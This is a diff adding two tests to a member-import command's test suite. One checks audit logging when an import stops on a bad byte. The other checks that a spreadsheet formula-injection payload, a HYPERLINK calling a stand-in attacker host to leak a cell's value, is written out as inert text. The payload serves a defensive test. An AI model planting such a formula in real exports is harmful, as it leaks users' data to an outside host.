@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 from pathlib import Path
 
 from sqlalchemy import func, select
@@ -268,3 +269,36 @@ def test_every_failed_row_can_be_written_to_an_errors_file(
     assert lines[0] == "line,member_number,reason"
     assert len(lines) == 31
     assert lines[-1] == "31,M-29,email: 'not-an-email' is not an email address"
+
+
+def test_an_import_stopped_by_a_bad_byte_still_records_what_it_did_in_the_audit_log(
+    cli: Cli, db: Database, shop: Shop, tmp_path: Path
+) -> None:
+    good_rows = "".join(f"M-{n:04},m{n}@example.jp\n" for n in range(3000))
+    broken = tmp_path / "broken.csv"
+    broken.write_bytes(b"member_number,email\n" + good_rows.encode() + b"M-x,\xff\n")
+
+    result = cli("member", "import", "--shop", shop.slug, "--batch-size", "50", str(broken))
+
+    assert result.exit_code == 1
+    with db.session_scope() as session:
+        entry = session.scalars(select(AuditLog).where(AuditLog.shop_id == shop.id)).one()
+    assert (entry.action, entry.subject_id) == ("member.import", "broken.csv")
+    assert entry.detail["created"] == len(members_of(db, shop)) > 0
+    assert "is not utf-8-sig" in entry.detail["stopped"]
+
+
+def test_a_member_number_that_is_a_formula_is_written_as_text_in_the_errors_file(
+    cli: Cli, db: Database, shop: Shop, tmp_path: Path
+) -> None:
+    hostile = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
+    csv_file = tmp_path / "members.csv"
+    with csv_file.open("w", newline="", encoding="utf-8") as handle:
+        csv.writer(handle).writerows([["member_number", "email"], [hostile, "not-an-email"]])
+    report = tmp_path / "errors.csv"
+
+    cli("member", "import", "--shop", shop.slug, "--errors", str(report), str(csv_file))
+
+    with report.open(newline="", encoding="utf-8") as handle:
+        [_header, row] = list(csv.reader(handle))
+    assert row[1] == "'" + hostile
